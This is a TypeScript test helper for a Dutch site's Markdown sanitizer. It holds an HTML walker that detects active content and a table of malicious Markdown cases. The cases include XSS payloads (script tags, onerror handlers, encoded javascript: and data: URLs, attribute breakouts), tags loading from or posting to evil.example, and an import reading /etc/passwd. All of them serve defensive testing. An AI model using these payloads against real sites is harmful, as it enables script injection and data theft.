/**
 * Shared by malicious-content.test.ts (rules, no build) and malicious-content.build.test.ts (a real
 * build): the malicious Markdown cases and the reader of what is active in a piece of HTML.
 */
import path from 'node:path';
import { htmlToHast } from 'satteri';
import { isDangerousUrl } from '../../src/lib/markdown/index';
import { projectRoot } from '../isolated-build';

export const FIXTURES = path.join(projectRoot, 'tests/fixtures/content');
export const ARTICLE_FM = '---\ntitel: Test\nsamenvatting: Een test.\nrubriek: bewegen\nauteurs: [ria-van-dijk]\npublicatiedatum: 2026-01-05\n---\n';

export interface HNode {
  type: string;
  tagName?: string;
  properties?: Record<string, unknown>;
  children?: HNode[];
  value?: string;
}
export const URL_PROPS = new Set(['href', 'src', 'action', 'formAction', 'data', 'srcSet', 'poster', 'xLinkHref', 'background', 'cite', 'ping', 'codeBase', 'manifest']);
export const ACTIVE = /^(script|iframe|frame|frameset|object|embed|applet|style|math|base|form|portal)$/;

/**
 * Everything in a piece of HTML that runs or loads something, read with a real HTML parser
 * (satteri's htmlToHast), so text and attribute values that merely *look* like tags do not count:
 * active elements (with their src/type/inline code), on…= handlers, and script/data addresses.
 */
export function activeParts(source: string, fragment = true): string[] {
  const found: string[] = [];
  const walk = (node: HNode) => {
    if (node.type === 'element' && node.tagName) {
      const props = node.properties ?? {};
      const name = node.tagName.toLowerCase();
      if (ACTIVE.test(name) || (name === 'meta' && props.httpEquiv) || (name === 'link' && /import/i.test(String(props.rel)))) {
        const text = (node.children ?? []).map((c) => c.value ?? '').join('');
        const attrs = Object.entries(props).map(([k, v]) => `${k}=${Array.isArray(v) ? v.join(' ') : String(v)}`).sort().join(' ');
        found.push(`<${name} ${attrs}>${props.type === 'application/ld+json' ? '(json-ld)' : text.slice(0, 80)}`);
      }
      for (const [key, value] of Object.entries(props)) {
        if (/^on[A-Z]/.test(key)) found.push(`<${name} ${key}=${String(value)}>`);
        if (URL_PROPS.has(key) && isDangerousUrl(Array.isArray(value) ? value.join(' ') : String(value))) found.push(`<${name} ${key}=${String(value)}>`);
      }
      for (const child of node.children ?? []) walk(child);
      return;
    }
    for (const child of node.children ?? []) walk(child);
  };
  walk(htmlToHast(source, { fragment }) as unknown as HNode);
  return found;
}
export const executable = (out: string) => activeParts(out);

/** The .md rules: [name, Markdown, text that must still be there (neutralised, not dropped)]. */
export const MD_CASES: Array<[string, string, string]> = [
  ['<script>', 'Hallo <script>alert("XSS")</script> daar', '&lt;script&gt;alert'],
  ['<script> as a block', '<script src="https://evil.example/x.js"></script>', '&lt;script src='],
  ['<iframe>', '<iframe src="https://evil.example" width=1></iframe>', '&lt;iframe'],
  ['onerror=', 'Kijk <img src=x onerror=alert(1)> hier', 'onerror=alert(1)'],
  ['on…= on any element', '<div onmouseover="alert(1)">beweeg</div>', 'onmouseover'],
  ['<style>', '<style>body{background:url("javascript:alert(1)")}</style>', '&lt;style&gt;'],
  ['<object>', '<object data="https://evil.example/x.swf"></object>', '&lt;object'],
  ['<embed>', '<embed src="https://evil.example/x.swf">', '&lt;embed'],
  ['SVG with script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', '&lt;svg'],
  ['SVG onload', '<svg/onload=alert(1)>', '&lt;svg/onload'],
  ['raw <a href=javascript:>', '<a href="javascript:alert(1)">klik</a>', '&lt;a href='],
  ['HTML comment hiding a script', '<!-- <script>alert(1)</script> -->', '&lt;!--'],
  ['<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '&lt;meta'],
  ['<base href>', '<base href="https://evil.example/">', '&lt;base'],
  ['<form action>', '<form action="https://evil.example"><input name=p></form>', '&lt;form'],
  ['javascript: link', '[klik](javascript:alert(1))', 'klik'],
  ['JavaScript: with capitals and spaces', '[klik]( JaVaScRiPt:alert(1) )', 'klik'],
  ['javascript&#58; (encoded colon)', '[klik](javascript&#58;alert(1))', 'klik'],
  ['&#106;avascript: (encoded letter)', '[klik](&#106;avascript:alert(1))', 'klik'],
  ['java&#9;script: (encoded tab)', '[klik](<java&#9;script:alert(1)>)', 'klik'],
  ['java%0Ascript:', '[klik](java%0Ascript:alert(1))', 'klik'],
  ['vbscript: link', '[klik](vbscript:msgbox(1))', 'klik'],
  ['data: link', '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'klik'],
  ['data: image', '![Een plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', 'Een plaatje'],
  ['javascript: image', '![Foto](javascript:alert(1))', 'Foto'],
  ['javascript: reference link', '[klik][x]\n\n[x]: javascript:alert(1)', 'klik'],
  ['javascript: autolink', '<javascript:alert(1)>', 'javascript:alert(1)'],
  ['import/export', 'import fs from "node:fs"\n\nexport const a = fs.readFileSync("/etc/passwd")', 'import fs from'],
  ['{expression}', 'Twee is {1 + 1} en {process.exit(1)}', '{process.exit(1)}'],
  ['unknown component', '<Onbekend prop={alert(1)} />', '&lt;Onbekend'],
  ['block title breaking out of its attribute', ':::tipkader{titel="\\"><script>alert(1)</script>"}\nTekst\n:::', 'Tekst'],
  ['citaat speaker with HTML', ':::citaat{wie="<img src=x onerror=alert(1)>"}\nMooi.\n:::', 'onerror=alert(1)'],
  ['foto alt with HTML', '::foto{src="../media/omslag.jpg" alt="\\"><script>alert(1)</script>"}', '__ASTRO_IMAGE_'],
];

